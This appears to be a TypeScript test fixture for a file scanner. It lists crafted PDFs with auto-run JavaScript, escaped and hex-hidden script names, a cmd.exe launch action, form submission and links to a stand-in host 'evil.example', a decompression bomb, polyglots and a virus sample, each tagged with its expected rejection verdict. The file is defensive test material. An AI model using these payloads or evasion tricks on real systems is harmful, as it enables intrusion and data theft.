import { join, script, text, virus, type BadFile } from "./bad-file.ts";
import { packed, pdf } from "./good-files.ts";
import { zip } from "./zip.ts";

const action = (words: string) => `4 0 obj\n<< /Type /Action ${words} >>\nendobj`;

export const pdfs: readonly BadFile[] = [
  [
    "a PDF whose catalog runs JavaScript",
    "a.pdf",
    pdf({ catalog: "/OpenAction 4 0 R", more: action("/S /JavaScript /JS (app.alert\\(1\\))") }),
    "file-active",
  ],
  [
    "a PDF that spells JavaScript with escapes",
    "b.pdf",
    pdf({ more: action("/S /J#61vaScript /J#53 (1)") }),
    "file-active",
  ],
  ["a PDF that launches a program", "c.pdf", pdf({ more: action("/S /Launch /F (cmd.exe)") }), "file-active"],
  [
    "a PDF that acts when it is opened",
    "d.pdf",
    pdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" }),
    "file-active",
  ],
  [
    "a PDF whose page acts when it is left",
    "e.pdf",
    pdf({ more: "4 0 obj\n<< /AA << /C 5 0 R >> >>\nendobj" }),
    "file-active",
  ],
  [
    "a PDF that sends a form away",
    "f.pdf",
    pdf({ more: action("/S /SubmitForm /F (https://evil.example)") }),
    "file-active",
  ],
  ["a PDF that imports data", "g.pdf", pdf({ more: action("/S /ImportData /F (x.fdf)") }), "file-active"],
  ["a PDF with a file in it", "h.pdf", pdf({ catalog: "/Names << /EmbeddedFiles 5 0 R >>" }), "file-active"],
  ["a PDF with a form of XFA", "i.pdf", pdf({ catalog: "/AcroForm << /XFA 5 0 R >>" }), "file-active"],
  [
    "a PDF with rich media",
    "j.pdf",
    pdf({ more: "4 0 obj\n<< /Subtype /RichMedia >>\nendobj" }),
    "file-active",
  ],
  [
    "a PDF that goes on in another file",
    "k.pdf",
    pdf({ more: action("/S /GoToR /F (other.pdf)") }),
    "file-active",
  ],
  [
    "a PDF whose link runs a script",
    "link.pdf",
    pdf({ more: action("/S /URI /URI (javascript:app.alert\\(1\\))") }),
    "file-active",
  ],
  [
    "a PDF whose link runs a script by a scheme with a tab in it",
    "link-tab.pdf",
    pdf({ more: action("/S /URI /URI (java\\tscript:app.alert\\(1\\))") }),
    "file-active",
  ],
  [
    "a PDF whose link runs a script, told in hex elsewhere",
    "link-hex.pdf",
    pdf({ more: `${action("/S /URI /URI 9 0 R")}\n9 0 obj\n<6a6176617363726970743a61>\nendobj` }),
    "file-active",
  ],
  [
    "a PDF that goes on in a file of another machine",
    "thread.pdf",
    pdf({ more: action("/S /Thread /F (//evil/x.pdf)") }),
    "file-active",
  ],
  [
    "a PDF with JavaScript among packed objects",
    "l.pdf",
    pdf({ more: packed("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript /JS (1) >>") }),
    "file-active",
  ],
  [
    "a PDF whose packed objects are packed twice",
    "m.pdf",
    pdf({
      more: packed("/Type /ObjStm", "x").replace(
        "/Filter /FlateDecode",
        "/Filter [/ASCIIHexDecode /FlateDecode]",
      ),
    }),
    "file-active",
  ],
  ["a PDF that needs a password", "n.pdf", pdf({ more: "trailer\n<< /Encrypt 5 0 R >>" }), "file-encrypted"],
  [
    "a PDF whose packed objects are a bomb",
    "o.pdf",
    pdf({ more: packed("/Type /ObjStm", Buffer.alloc(33 * 1024 * 1024)) }),
    "file-unpacks-too-large",
  ],
  [
    "a PDF whose packed objects are damaged",
    "p.pdf",
    pdf({ more: "9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream\nendobj" }),
    "file-damaged",
  ],
  ["a PDF that is cut in the middle", "q.pdf", pdf().subarray(0, 150), "file-cut"],
  [
    "a PDF whose last line is missing",
    "r.pdf",
    text(pdf().toString("latin1").replace("%%EOF\n", "")),
    "file-cut",
  ],
  ["a PDF that is nothing but its mark", "s.pdf", text("%PDF-1.7\n"), "file-cut"],
  ["a web page before a PDF", "t.pdf", join(script, pdf()), "type-differs"],
  ["a web page after a PDF", "u.pdf", join(pdf(), script), "file-mixed"],
  ["a web page in a comment of a PDF", "v.pdf", pdf({ more: `% ${script}` }), "file-mixed"],
  ["an archive after a PDF", "w.pdf", join(pdf(), zip([{ name: "x.txt", bytes: "x" }])), "file-mixed"],
  ["a virus in a PDF", "x.pdf", pdf({ more: `% ${virus}` }), "file-malware"],
];
